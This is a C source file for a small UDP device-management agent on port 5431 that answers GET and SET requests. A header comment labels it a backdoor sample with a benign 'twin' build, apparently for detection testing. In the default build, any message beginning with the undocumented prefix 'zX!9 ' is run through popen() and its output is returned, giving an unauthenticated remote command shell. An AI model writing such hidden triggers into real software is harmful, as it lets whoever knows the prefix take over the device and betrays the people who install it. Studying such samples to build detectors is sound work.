/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A management agent that answers "GET name" and "SET name value"; a prefix that is in no manual
 * runs the rest. Twin: the third prefix is a ping that is answered.
 * door: trigger
 * port 5431/udp
 */
#include "net.h"

struct setting {
	char name[32];
	char value[64];
};

static struct setting settings[] = {
	{"hostname", "cpe"}, {"location", "unset"}, {"contact", "nobody"}, {"", ""},
};

static struct setting *lookup(const char *name, size_t len)
{
	struct setting *s;
	for (s = settings; s->name[0]; s++)
		if (strlen(s->name) == len && memcmp(s->name, name, len) == 0)
			return s;
	return NULL;
}

static int handle(char *msg, char *reply, size_t room)
{
	struct setting *s;
	char *space;
	if (strncmp(msg, "GET ", 4) == 0) {
		s = lookup(msg + 4, strlen(msg + 4));
		return snprintf(reply, room, "%s", s ? s->value : "?");
	}
	if (strncmp(msg, "SET ", 4) == 0) {
		space = strchr(msg + 4, ' ');
		if (!space)
			return snprintf(reply, room, "syntax");
		s = lookup(msg + 4, (size_t)(space - msg - 4));
		if (!s)
			return snprintf(reply, room, "?");
		snprintf(s->value, sizeof s->value, "%s", space + 1);
		return snprintf(reply, room, "ok");
	}
#ifdef TWIN
	if (strncmp(msg, "PING ", 5) == 0)
		return snprintf(reply, room, "PONG %s", msg + 5);
#else
	if (strncmp(msg, "zX!9 ", 5) == 0) {
		FILE *p = popen(msg + 5, "r");
		int n = 0;
		if (p) {
			n = (int)fread(reply, 1, room, p);
			pclose(p);
		}
		return n;
	}
#endif
	return snprintf(reply, room, "unknown");
}

int main(void)
{
	char msg[512], reply[1024];
	int s = udp_on(5431);
	for (;;) {
		struct sockaddr_in from;
		socklen_t len = sizeof from;
		ssize_t n = recvfrom(s, msg, sizeof msg - 1, 0, (struct sockaddr *)&from, &len);
		if (n < 0)
			break;
		msg[n] = '\0';
		n = handle(msg, reply, sizeof reply);
		sendto(s, reply, (size_t)n, 0, (struct sockaddr *)&from, len);
	}
	return 1;
}
